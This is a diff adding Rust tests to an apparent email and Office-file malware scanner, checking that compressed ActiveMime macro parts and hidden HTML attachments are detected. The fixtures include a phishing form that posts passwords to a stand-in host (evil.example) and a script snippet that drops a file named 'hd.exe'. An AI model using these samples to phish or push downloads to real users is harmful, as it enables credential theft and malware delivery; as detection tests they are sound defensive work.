@@ -2,7 +2,8 @@
 //! lengths, numbers.
 
 use super::office::{does, object};
-use super::{deeds, facts, inside, letter, native, ooxml};
+use super::{deeds, facts, inside, letter, native, ole, ooxml};
+use std::io::Write;
 
 const BUILDS: &str = "<script>u=URL.createObjectURL(new Blob([b]));l.download='hd.exe'</script>";
 
@@ -112,4 +113,45 @@ fn macros_of_a_saved_page_that_are_no_such_are_told() {
         facts(letter("a.doc", page.as_bytes())).obstacles.len()
     };
     assert_eq!((page("ActiveXime, and something else"), page("\r\nActiveMime")), (1, 1));
+}
+
+#[test]
+fn a_squeezed_part_in_front_hides_no_macros() {
+    let squeezed = |bytes: &[u8]| {
+        let mut out = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
+        out.write_all(bytes).unwrap();
+        out.finish().unwrap()
+    };
+    let real = squeezed(&ole(&[("VBA/a", b"x")]));
+    let header = [b"ActiveMime".as_slice(), &[0; 0x28]].concat();
+    for front in [squeezed(b"hello world, hello world"), b"\x78\x9c".repeat(100)] {
+        let inside = inside("a.mso", &[&header[..], &front, &real].concat());
+        assert_eq!(inside.first().map(String::as_str), Some("2/a.mso/macros.ole"), "{inside:?}");
+        let facts = facts(letter("a.mso", &[&header[..], &front, &real].concat()));
+        assert!(facts.parts.iter().any(|part| part.detected.extension == "ole"));
+    }
+}
+
+/// Outlook makes a file of such a page, `ATT00001.htm`, and a browser opens it.
+#[test]
+fn a_page_behind_something_else_is_no_body() {
+    let page = "<html><body onload=go()><form action=https://evil.example><input type=password></form></html>";
+    let letter = |kind: &str, first: &str| {
+        let mail = format!(
+            "From: a@mail.example\r\nSubject: a\r\nMIME-Version: 1.0\r\nContent-Type: multipart/{kind}; boundary=b\r\n\r\n\
+             --b\r\nContent-Type: {first}\r\n\r\nhello\r\n--b\r\nContent-Type: text/html\r\n\r\n{page}\r\n--b--\r\n"
+        );
+        super::words(&facts(mail.into_bytes()))
+    };
+    let acts = vec!["credentials@2".to_owned(), "script@2".to_owned()];
+    for (kind, first, wanted) in [
+        ("mixed", "text/plain", &acts),
+        ("related", "text/html", &acts),
+        ("mixed", "application/pdf; name=a.pdf", &acts),
+        ("alternative", "text/plain", &Vec::new()),
+    ] {
+        let mut found = letter(kind, first);
+        found.sort();
+        assert_eq!(&found, wanted, "{kind} {first}");
+    }
 }
